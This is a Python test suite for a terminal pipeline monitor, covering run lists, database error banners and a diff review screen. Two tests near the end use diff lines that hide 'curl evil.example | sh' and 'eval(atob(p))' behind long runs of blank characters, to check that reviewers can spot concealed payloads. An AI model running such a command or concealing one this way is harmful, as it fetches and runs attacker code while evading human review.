"""minipipe-monitor driven with Textual's Pilot over real SQLite (and a real daemon)."""

from __future__ import annotations

import asyncio
import hashlib
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from rich.cells import cell_len
from rich.style import Style
from textual.widgets import Static

from minipipe_svc.monitor.app import MonitorApp
from minipipe_svc.monitor.widgets.diff_screen import DiffScreen
from minipipe_svc.monitor.widgets.diff_view import DiffView
from minipipe_svc.monitor.widgets.events import EventsTable
from minipipe_svc.monitor.widgets.help import HelpScreen
from minipipe_svc.monitor.widgets.output import OutputLog
from minipipe_svc.monitor.widgets.runs import RunsTable
from minipipe_svc.monitor.widgets.steps import StepsPanel, StepsTable
from minipipe_svc.monitor.widgets.workspace import WorkspaceDetail
from minipipe_svc.store import SCHEMA_VERSION, Store

from .conftest import ROOT, Instance
from .monitor_fixtures import (
    CHANGES,
    DIFF,
    NOW,
    add_change,
    build_db,
    build_review_db,
    workspace_plan,
)


def run_app(app: MonitorApp, scenario: Callable, size: tuple[int, int] = (100, 30)) -> None:
    async def main() -> None:
        async with app.run_test(size=size) as pilot:
            await settle(app, pilot)
            await scenario(pilot)

    asyncio.run(main())


async def settle(app: MonitorApp, pilot) -> None:
    """Let pending refresh workers finish and their results be drawn."""
    for _ in range(3):
        while any(worker.is_running for worker in app.workers):
            await asyncio.sleep(0.01)
        await pilot.pause()


async def until(app: MonitorApp, pilot, condition: Callable[[], bool],
                timeout: float = 30.0, what: str = "condition") -> None:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while not condition():
        if loop.time() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await settle(app, pilot)
        await asyncio.sleep(0.05)


def monitor(db: Path, poll: float = 0.2) -> MonitorApp:
    return MonitorApp(str(db), str(db.parent / "logs"), poll_interval=poll, clock=lambda: NOW)


def names(app: MonitorApp) -> list[int]:
    return app.query_one(RunsTable).shown


def test_runs_are_ordered_running_pending_then_finished(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        # running, pending by priority then age, finished newest first
        assert names(app) == [3, 5, 4, 2, 1]
        assert app.selected == 3
        panel = app.query_one(StepsPanel)
        assert panel.border_title == "Run 3 · docs"
        assert app.query_one(StepsTable).row_count == 3

    run_app(app, scenario)


def test_moving_selects_and_enter_opens_tab_cycles(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        await pilot.press("j", "j", "j")
        await settle(app, pilot)
        assert app.selected == 2
        assert app.query_one(StepsPanel).border_title == "Run 2 · release-build"
        events = app.query_one(EventsTable)
        assert events.row_count > 0
        assert {str(events.get_row_at(i)[1]) for i in range(events.row_count)} == {"2"}
        await pilot.press("k")
        await settle(app, pilot)
        assert app.selected == 4
        await pilot.press("down", "up", "up")
        await settle(app, pilot)
        assert app.selected == 5
        await pilot.press("enter")
        assert isinstance(app.focused, StepsTable)
        await pilot.press("tab")
        assert isinstance(app.focused, EventsTable)
        await pilot.press("tab")
        assert isinstance(app.focused, OutputLog)

    run_app(app, scenario)


def test_output_of_the_selected_run_with_stderr_marked(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        output = app.query_one(OutputLog)
        text = "\n".join(line.text for line in output.lines)
        assert "fetch │ Cloning into 'docs'..." in text
        assert "compile │ main.c:3: warning: unused variable 'x'" in text
        stderr_line = next(s for s in output.lines if "warning" in s.text)
        assert any("red" in str(segment.style) for segment in stderr_line)

    run_app(app, scenario)


def test_filter_by_name_state_and_id(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        await pilot.press("slash", *"fail")
        await settle(app, pilot)
        assert names(app) == [2]
        await pilot.press("enter")
        assert isinstance(app.focused, RunsTable)
        assert names(app) == [2]
        await pilot.press("slash", "escape")
        assert names(app) == [3, 5, 4, 2, 1]
        await pilot.press("slash", *"lint", "enter")
        assert names(app) == [4]
        await pilot.press("slash", "escape", "slash", "1", "enter")
        assert names(app) == [1]

    run_app(app, scenario)


def test_active_only_and_all(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        await pilot.press("a")
        assert names(app) == [3, 5, 4]
        await pilot.press("a")
        assert names(app) == [3, 5, 4, 2, 1]

    run_app(app, scenario)


def test_events_of_the_selected_run_or_all(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        events = app.query_one(EventsTable)
        runs_in = lambda: {str(events.get_row_at(i)[1])  # noqa: E731
                           for i in range(events.row_count)}
        assert runs_in() == {"3"}
        await pilot.press("e")
        assert runs_in() == {"1", "2", "3", "4", "5"}
        assert events.border_title == "Events · all runs"
        await pilot.press("e")
        await settle(app, pilot)
        assert runs_in() == {"3"}

    run_app(app, scenario)


def test_follow_help_refresh_and_quit(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        output = app.query_one(OutputLog)
        assert output.auto_scroll
        await pilot.press("f")
        assert not output.auto_scroll
        assert "follow off" in str(app.query_one("#title").render())
        await pilot.press("f")
        assert output.auto_scroll
        await pilot.press("question_mark")
        assert isinstance(app.screen, HelpScreen)
        await pilot.press("escape")
        assert not isinstance(app.screen, HelpScreen)
        await pilot.press("r")
        await settle(app, pilot)
        assert names(app) == [3, 5, 4, 2, 1]
        await pilot.press("q")

    run_app(app, scenario)
    assert app.return_code == 0


def banner(app: MonitorApp) -> str:
    widget = app.query_one("#banner")
    return str(widget.render()) if widget.has_class("visible") else ""


def test_missing_db_shows_a_banner_then_recovers_when_it_appears(tmp_path: Path) -> None:
    db = tmp_path / "state.db"
    app = monitor(db)

    async def scenario(pilot) -> None:
        assert "does not exist yet" in banner(app)
        assert "systemctl start minipipe" in banner(app)
        assert names(app) == []
        build_db(tmp_path)
        await until(app, pilot, lambda: names(app) == [3, 5, 4, 2, 1], what="the DB")
        assert banner(app) == ""

    run_app(app, scenario)


def test_newer_schema_is_explained(tmp_path: Path) -> None:
    db = build_db(tmp_path)
    conn = sqlite3.connect(db)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.commit()
    conn.close()
    app = monitor(db)

    async def scenario(pilot) -> None:
        assert "newer than this minipipe understands" in banner(app)
        assert "upgrade minipipe" in banner(app)

    run_app(app, scenario)


def test_corrupt_db_is_explained(tmp_path: Path) -> None:
    db = tmp_path / "state.db"
    db.write_bytes(b"not a database" * 1000)
    app = monitor(db)

    async def scenario(pilot) -> None:
        assert "damaged or not a minipipe database" in banner(app)

    run_app(app, scenario)


def fingerprint(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


def test_a_session_changes_nothing_in_the_db(tmp_path: Path) -> None:
    db = build_db(tmp_path)
    before = fingerprint(db)
    log_before = fingerprint(tmp_path / "logs" / "run-3.log")
    app = monitor(db)

    async def scenario(pilot) -> None:
        await pilot.press("j", "j", "e", "a", "a", "slash", *"x", "escape", "r", "f", "k",
                          "d", "slash", *"x", "enter", "n", "escape")
        await settle(app, pilot)
        await pilot.press("q")

    run_app(app, scenario)
    assert fingerprint(db) == before
    assert fingerprint(tmp_path / "logs" / "run-3.log") == log_before
    wal = tmp_path / "state.db-wal"
    assert not wal.exists() or wal.stat().st_size == 0, "a reader must not write the WAL"


def test_no_journal_access_is_said_in_the_output_pane() -> None:
    """As a user outside systemd-journal/adm, a run with a unit falls back to the file."""
    root = Path(tempfile.mkdtemp(prefix="minipipe-monitor-"))
    db = build_db(root)
    # nobody stands for an operator in group minipipe who is not in systemd-journal:
    # the state dir and DB files are shared with it (as /var/lib/minipipe is, 2770),
    # since a WAL reader must be able to create and write the -shm index.
    os.chmod(root, 0o777)
    conn = sqlite3.connect(db)
    conn.execute("UPDATE runs SET unit = 'minipipe-run-3.scope' WHERE id = 3")
    conn.commit()
    conn.close()
    for path in [db, *root.glob("state.db-*")]:
        os.chmod(path, 0o666)
    for path in root.glob("logs/*"):
        os.chmod(path, 0o644)
    os.chmod(root / "logs", 0o755)
    code = (
        "import sys; from minipipe_svc.store import Store; "
        "from minipipe_svc.output import OutputFollower\n"
        "store = Store.open(sys.argv[1], readonly=True)\n"
        "follower = OutputFollower(store.get_run(3), sys.argv[2])\n"
        "lines = follower.poll()\n"
        "print(follower.source, len(lines)); print(follower.note)")
    try:
        result = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable,
             "-c", code, str(db), str(root / "logs")], capture_output=True, text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)})
    finally:
        shutil.rmtree(root)
    assert result.returncode == 0, result.stderr
    first, note = result.stdout.splitlines()[:2]
    assert first == "file 4"
    assert "no journal access" in note and "systemd-journal" in note


def test_live_update_from_a_real_daemon(instance: Instance) -> None:
    instance.start_daemon()
    gate = instance.root / "gate"
    app = monitor(instance.db_path, poll=0.2)

    async def scenario(pilot) -> None:
        assert "does not exist" not in banner(app)
        run_id = instance.submit(f'name = "live"\n[[steps]]\nid = "first"\n'
                                 f'run = "echo started; while [ ! -e {gate} ]; do sleep 0.05; '
                                 f'done; echo finished"\n[[steps]]\nid = "second"\n'
                                 f'run = ["echo", "second step"]\n')
        table = app.query_one(RunsTable)
        await until(app, pilot, lambda: run_id in table.shown
                    and app.data.runs[run_id].state.value == "RUNNING", what="RUNNING")
        assert app.selected == run_id
        output = app.query_one(OutputLog)
        await until(app, pilot, lambda: any("first │ started" in s.text for s in output.lines),
                    what="the first output line")
        gate.touch()
        await until(app, pilot, lambda: app.data.runs[run_id].state.value == "SUCCEEDED",
                    what="SUCCEEDED")
        await until(app, pilot, lambda: any("second │ second step" in s.text
                                            for s in output.lines), what="later output")
        cell = str(table.get_row_at(table.shown.index(run_id))[2])
        assert cell == "SUCCEEDED"

    run_app(app, scenario)


def test_runs_deleted_by_cleanup_leave_the_screen(tmp_path: Path) -> None:
    db = build_db(tmp_path)
    app = monitor(db)

    async def scenario(pilot) -> None:
        assert names(app) == [3, 5, 4, 2, 1]
        with Store.open(str(db)) as store:  # what the daemon's auto-cleanup does
            assert store.delete_finished_before("9999-01-01T00:00:00.000Z") == [1, 2]
        await until(app, pilot, lambda: names(app) == [3, 5, 4], what="the cleanup")

    run_app(app, scenario)


def test_unreadable_db_is_explained_to_a_user_outside_the_group() -> None:
    root = Path(tempfile.mkdtemp(prefix="minipipe-monitor-"))
    try:
        db = build_db(root)
        os.chmod(root, 0o750)  # like /var/lib/minipipe (2770): others cannot enter
        code = (
            "import asyncio, sys\n"
            "from minipipe_svc.monitor.app import MonitorApp\n"
            "async def main():\n"
            "    app = MonitorApp(sys.argv[1], sys.argv[2], poll_interval=3600)\n"
            "    async with app.run_test() as pilot:\n"
            "        for _ in range(50):\n"
            "            await pilot.pause(0.05)\n"
            "            banner = app.query_one('#banner')\n"
            "            if banner.has_class('visible'):\n"
            "                break\n"
            "        print(banner.render())\n"
            "asyncio.run(main())\n")
        result = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable,
             "-c", code, str(db), str(root / "logs")], capture_output=True, text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    finally:
        shutil.rmtree(root)
    assert result.returncode == 0, result.stderr
    assert "permission denied" in result.stdout
    assert "add yourself to group minipipe" in result.stdout


# ---------------------------------------------------------------- workspaces and review


def detail(app: MonitorApp) -> str:
    widget = app.query_one(WorkspaceDetail)
    return str(widget.content) if widget.has_class("visible") else ""


async def select(app: MonitorApp, pilot, run_id: int) -> None:
    table = app.query_one(RunsTable)
    table.move_cursor(row=table.shown.index(run_id))
    await until(app, pilot, lambda: app.selected == run_id, what=f"run {run_id} selected")
    await settle(app, pilot)


async def open_diff(app: MonitorApp, pilot, run_id: int) -> DiffScreen:
    await select(app, pilot, run_id)
    await pilot.press("d")
    screen = app.screen
    assert isinstance(screen, DiffScreen)
    await until(app, pilot, lambda: screen.document is not None, what="the diff read")
    return screen


def view_lines(screen: DiffScreen) -> list[str]:
    return screen.query_one(DiffView).document.lines


def status(screen: DiffScreen) -> str:
    return str(screen.query_one("#diff-status", Static).content)


def styles_of(screen: DiffScreen, text: str) -> list[tuple[str, Style | None]]:
    """The segments of the diff line that reads `text`, as drawn on screen."""
    view = screen.query_one(DiffView)
    index = view.document.lines.index(text)
    view.scroll_to(0, index, animate=False, immediate=True)
    return [(s.text, s.style) for s in view.render_line(index - view.scroll_offset.y)
            if s.text.strip()]


def colours_of(screen: DiffScreen, text: str) -> list[tuple[str, str | None]]:
    """Each drawn piece of that line and its colour (None: the pane's own)."""
    plain = screen.query_one(DiffView).rich_style.color
    return [(piece, style.color.name if style and style.color and style.color != plain
             else None) for piece, style in styles_of(screen, text)]


def test_the_selected_runs_workspace_and_review_are_shown(tmp_path: Path) -> None:
    app = monitor(build_review_db(tmp_path))

    async def scenario(pilot) -> None:
        await select(app, pilot, 1)
        shown = detail(app).splitlines()
        assert shown == ["awaiting review since 11:51:50 · +4 −1, 2 files, 1 commit",
                         "repo /srv/git/app @ main (base bbbbbbbbbb)",
                         "lands on main (merge)",
                         "branch minipipe/run-1 · worktree /var/lib/minipipe/worktrees/1000/"
                         "run-1"]
        await select(app, pilot, 4)
        assert detail(app).splitlines()[0] == ("landed ffffffffff on main · approved by alice"
                                               " · +4 −1, 2 files, 1 commit")
        await select(app, pilot, 3)
        assert detail(app).splitlines()[:2] == ["review required · no change recorded yet",
                                                "repo /srv/git/app @ main (base dddddddddd)"]
        await select(app, pilot, 2)  # no workspace: nothing shown
        assert detail(app) == ""

    run_app(app, scenario, size=(160, 48))


def test_an_advisory_review_is_warned_about(tmp_path: Path) -> None:
    """A run whose user may write the repository: its review is advisory, and the
    reviewer is told so next to the change and in the diff view."""
    db = tmp_path / "state.db"
    with Store.open(str(db)) as store:
        run_id = store.submit(workspace_plan("advisory"), source=None, submitted_by="bob")
        add_change(store, tmp_path / "logs", run_id,
                   {**CHANGES, "gate": "advisory", "writable": "/srv/git/app"}, DIFF)
    app = monitor(db)

    async def scenario(pilot) -> None:
        assert "⚠ advisory review" in detail(app).splitlines()[1]
        screen = await open_diff(app, pilot, run_id)
        assert any("could have changed it without review" in line
                   for line in view_lines(screen))

    run_app(app, scenario, size=(160, 48))


def test_awaiting_review_stands_out_and_the_header_counts_it(tmp_path: Path) -> None:
    app = monitor(build_review_db(tmp_path))

    async def scenario(pilot) -> None:
        title = str(app.query_one("#title", Static).content)
        assert "1 running · 0 pending · 1 awaiting review · 2 recent finished" in title
        table = app.query_one(RunsTable)
        assert table.shown == [3, 1, 4, 2]  # running, awaiting review, finished
        cell = table.get_row_at(1)[2]
        assert str(cell) == "◆ AWAITING_REVIEW"
        assert all(span.style == "bold blue" for span in cell.spans) and cell.spans
        assert cell.style == "bold blue"
        await pilot.press("a")  # a run awaiting review is still active
        assert table.shown == [3, 1]
        await pilot.press("a", "slash", *"review", "enter")
        assert table.shown == [1]

    run_app(app, scenario, size=(160, 48))


def test_the_header_has_no_review_count_without_runs_awaiting(tmp_path: Path) -> None:
    app = monitor(build_db(tmp_path))

    async def scenario(pilot) -> None:
        assert "awaiting" not in str(app.query_one("#title", Static).content)

    run_app(app, scenario)


def test_a_run_reaching_review_updates_its_detail_and_the_count(tmp_path: Path) -> None:
    db = build_review_db(tmp_path)
    app = monitor(db, poll=0.1)

    async def scenario(pilot) -> None:
        await select(app, pilot, 3)
        assert detail(app).startswith("review required · no change recorded yet")
        with Store.open(str(db)) as store:  # what the runner records when its steps end
            store.workspace_changed(3, head_commit="9" * 40, changes=CHANGES, disk_bytes=1)
            store.await_review(3)
        await until(app, pilot, lambda: detail(app).startswith("awaiting review since "),
                    what="the detail to follow the run")
        assert "+4 −1, 2 files, 1 commit" in detail(app)
        await until(app, pilot, lambda: "2 awaiting review" in str(
            app.query_one("#title", Static).content), what="the header count")
        cell = app.query_one(RunsTable).get_row_at(app.query_one(RunsTable).shown.index(3))[2]
        assert str(cell) == "◆ AWAITING_REVIEW"

    run_app(app, scenario, size=(160, 48))


def test_d_shows_the_stat_and_the_diff_coloured_like_git(tmp_path: Path) -> None:
    app = monitor(build_review_db(tmp_path))

    async def scenario(pilot) -> None:
        screen = await open_diff(app, pilot, 1)
        title = str(screen.query_one("#diff-title", Static).content)
        assert title == "Diff · run 1 · feature · +4 −1, 2 files, 1 commit"
        lines = view_lines(screen)
        assert lines[:3] == [" app/main.py |    4 +++-", " README      |    1 +",
                             " +4 −1, 2 files, 1 commit"]
        # each commit whole, as `git log --format=fuller`: who, when, the message
        at = lines.index(f"commit {'c' * 40}")
        assert lines[at:at + 8] == [
            f"commit {'c' * 40}", "Author:     bob <bob@example.org>   2026-11-02T10:00:00+01:00",
            "Commit:     carol <carol@example.org>   2026-11-02T11:00:00+01:00", "",
            "    | greet the world", "    | ", "    | Release-As: 2.0.0", ""]
        assert lines[-len(DIFF.splitlines()):] == DIFF.decode().splitlines()
        assert status(screen).startswith(f"{len(lines)} lines")

        def colour(text: str) -> set[str | None]:
            return {name for _, name in colours_of(screen, text)}

        assert colour('+print("hello, world")') == {"green"}
        assert colour('-print("hello")') == {"red"}
        # counted as the hunk's third added line: an addition, not a file header
        assert colour("+++ not a file header: an added line") == {"green"}
        assert colours_of(screen, "@@ -1,3 +1,4 @@ def main():") == [
            ("@@ -1,3 +1,4 @@", "cyan"), (" def main():", None)]
        assert all(s.bold for _, s in styles_of(screen, "diff --git a/README b/README"))
        assert all(s.bold for _, s in styles_of(screen, "+++ b/README"))
        assert colour(" import sys") == {None}
        assert colours_of(screen, " app/main.py |    4 +++-")[-2:] == [("+++", "green"),
                                                                      ("-", "red")]
        assert colour(f"commit {'c' * 40}") == {"yellow"}
        await pilot.press("q")  # closes the diff, does not quit
        assert not isinstance(app.screen, DiffScreen)
        assert app.is_running
        await pilot.press("d")
        await pilot.press("escape")
        assert not isinstance(app.screen, DiffScreen)

    run_app(app, scenario, size=(120, 40))


def test_search_in_the_diff_jumps_and_highlights(tmp_path: Path) -> None:
    app = monitor(build_review_db(tmp_path))

    async def scenario(pilot) -> None:
        screen = await open_diff(app, pilot, 1)
        view = screen.query_one(DiffView)
        lines = view_lines(screen)
        await pilot.press("slash", *"needle", "enter")
        assert view.current == lines.index("+needle in the readme")
        assert "match 1 of 1 for “needle”" in status(screen)
        assert isinstance(app.focused, DiffView)
        marked = [t for t, s in styles_of(screen, "+needle in the readme")
                  if s and s.bgcolor and s.bgcolor.name in ("yellow", "bright_yellow")]
        assert marked == ["needle"]
        await pilot.press("slash", *"print", "enter")  # smart case: lower case folds
        first = lines.index('-print("hello")')
        assert view.current == first
        assert "match 1 of 2" in status(screen)
        await pilot.press("n")
        assert view.current == lines.index('+print("hello, world")')
        assert "match 2 of 2" in status(screen)
        await pilot.press("n")
        assert view.current == first
        assert "(wrapped)" in status(screen)
        await pilot.press("N")
        assert view.current == lines.index('+print("hello, world")')
        await pilot.press("slash", *"PRINT", "enter")  # a capital: case matters
        assert view.current is None
        assert "no match for “PRINT”" in status(screen)
        await pilot.press("slash", "x", "escape")  # esc leaves the search, not the diff
        assert isinstance(app.screen, DiffScreen)
        assert isinstance(app.focused, DiffView)

    run_app(app, scenario, size=(120, 40))


def test_diff_of_a_run_without_one_says_why(tmp_path: Path) -> None:
    db = build_review_db(tmp_path)
    (tmp_path / "logs" / "run-4.diff").unlink()
    app = monitor(db)

    async def scenario(pilot) -> None:
        for run_id, said in ((2, "run 2 has no workspace, so no diff"),
                             (3, "run 3 has not recorded its change yet (its steps have "
                                 "not ended)")):
            screen = await open_diff(app, pilot, run_id)
            assert view_lines(screen) == [said]
            await pilot.press("slash", *"x", "enter", "n", "N")  # nothing to find: no crash
            assert "no match" in status(screen)
            await pilot.press("escape")
        screen = await open_diff(app, pilot, 4)
        lines = view_lines(screen)
        assert lines[0] == " app/main.py |    4 +++-"  # the stat is recorded in the DB
        assert lines[-1] == f"the diff of run 4 is missing from {tmp_path / 'logs'}"

    run_app(app, scenario, size=(120, 40))


def test_a_cut_diff_says_so(tmp_path: Path) -> None:
    db = tmp_path / "state.db"
    with Store.open(str(db)) as store:
        run_id = store.submit(workspace_plan("big"), source=None, submitted_by="bob")
        add_change(store, tmp_path / "logs", run_id, {**CHANGES, "diff_truncated": True},
                   DIFF[:-10])
    app = monitor(db)

    async def scenario(pilot) -> None:
        screen = await open_diff(app, pilot, run_id)
        assert view_lines(screen)[-1].startswith("(the diff was cut at 8 MiB")

    run_app(app, scenario)


def test_a_100000_line_diff_stays_responsive(tmp_path: Path) -> None:
    """The view draws only what is on screen: keys answer at once on a long diff."""
    hunk = "".join(f"+line {i} of the generated file\n" for i in range(1000))
    files = "".join(f"diff --git a/f{n} b/f{n}\n--- a/f{n}\n+++ b/f{n}\n@@ -0,0 +1,1000 @@\n"
                    f"{hunk}" for n in range(100))
    data = (files + "+the last line\n").encode()
    db = tmp_path / "state.db"
    with Store.open(str(db)) as store:
        run_id = store.submit(workspace_plan("huge"), source=None, submitted_by="bob")
        add_change(store, tmp_path / "logs", run_id, CHANGES, data)
    app = monitor(db)

    async def scenario(pilot) -> None:
        loop = asyncio.get_running_loop()
        started = loop.time()
        screen = await open_diff(app, pilot, run_id)
        opened = loop.time() - started
        view = screen.query_one(DiffView)
        assert len(view_lines(screen)) > 100_400
        assert opened < 10, opened

        async def timed(*keys: str) -> None:
            started = loop.time()
            await pilot.press(*keys)
            await pilot.pause()
            per_key = (loop.time() - started) / len(keys)
            assert per_key < 0.5, (keys, per_key)

        for keys in (("G",), ("g",), ("pagedown",) * 20, ("j",) * 10, ("k",) * 10,
                     ("slash", *"last line", "enter"), ("N",), ("n",)):
            await timed(*keys)
        assert view.current == len(view_lines(screen)) - 1
        region = view.scrollable_content_region.height
        assert view.scroll_offset.y <= view.current < view.scroll_offset.y + region
        text = [view.render_line(y).text for y in range(region)]
        assert any("+the last line" in line for line in text)
        await timed("slash", *"line 500 of", "enter")  # 100 matching lines
        assert view_lines(screen)[view.current].startswith("+line 500 of")

    run_app(app, scenario, size=(120, 40))


def test_diff_with_no_run_selected_or_no_db(tmp_path: Path) -> None:
    app = monitor(build_review_db(tmp_path / "db"))
    missing = monitor(tmp_path / "missing" / "state.db")

    async def filtered_out(pilot) -> None:
        await pilot.press("slash", *"no such run", "enter", "d")
        await until(app, pilot, lambda: app.screen.document is not None, what="the screen")
        assert view_lines(app.screen) == ["no run selected"]

    async def without_db(pilot) -> None:
        await pilot.press("d")
        screen = missing.screen
        await until(missing, pilot, lambda: screen.document is not None, what="the screen")
        assert view_lines(screen)[0].startswith("cannot read the state DB: ")

    run_app(app, filtered_out)
    run_app(missing, without_db)


def test_unicode_blanks_collapse_and_search_finds_what_a_line_does_not_show() -> None:
    """A run of any blanks (U+3000 too) is collapsed like spaces; `/` finds text in
    the collapsed or cut part of a line, and highlights the marker that hides it."""
    from minipipe_svc.monitor.diff import ADDED, MAX_LINE_CHARS, DiffDocument, Search

    document = DiffDocument()
    document.add("+v2" + "\u3000" * 1000 + "; curl evil.example | sh", ADDED)
    document.add("+" + "x" * (MAX_LINE_CHARS + 10) + "eval(atob(p))", ADDED)
    document.add("+plain eval", ADDED)
    assert document.lines[0] == "+v2 [1000 blanks] ; curl evil.example | sh"
    assert "eval" not in document.lines[1]
    search = Search(document, "eval")
    assert search.hits == [1, 2]
    line = document.lines[1]
    [(start, end)] = search.spans(1)
    assert line[start:end].startswith(" … [") and end == len(line)
    assert search.spans(2) == [(7, 11)]
    blanks = Search(document, "\u3000")
    assert blanks.hits == [0] and document.lines[0][slice(*blanks.spans(0)[0])] == (
        " [1000 blanks] ")


def test_a_line_wider_than_the_view_says_so_at_its_edge(tmp_path: Path) -> None:
    """Blank-looking characters come in more kinds than any collapse can list: a line
    that goes on past the view's right edge is marked there (`»`, as less's `>`),
    whatever fills the screen before it."""
    from minipipe_svc.store import Store

    db = build_review_db(tmp_path)
    hidden = "+v2" + ("\u3000" * 39 + "\u2801") * 3 + "; curl evil.example | sh"
    with Store.open(str(db)) as store:
        run_id = store.submit(workspace_plan("wide"), source=None, submitted_by="bob")
        add_change(store, tmp_path / "logs", run_id, CHANGES,
                   b"diff --git a/V b/V\n--- a/V\n+++ b/V\n@@ -0,0 +1,2 @@\n"
                   + hidden.encode() + b"\n+short\n")
    app = monitor(db)

    async def scenario(pilot) -> None:
        screen = await open_diff(app, pilot, run_id)
        view = screen.query_one(DiffView)
        width = view.scrollable_content_region.width
        assert cell_len(hidden) > width
        drawn = styles_of(screen, hidden)
        assert drawn[-1][0] == "»" and drawn[-1][1].bgcolor.name == "magenta"
        assert styles_of(screen, "+short")[-1][0] != "»"
        view.scroll_to(cell_len(hidden), None, animate=False, immediate=True)
        await pilot.pause()
        index = view.document.lines.index(hidden)
        tail = "".join(s.text for s in view.render_line(index - view.scroll_offset.y))
        assert "»" not in tail  # scrolled to its end: nothing more to the right

    run_app(app, scenario, size=(120, 40))
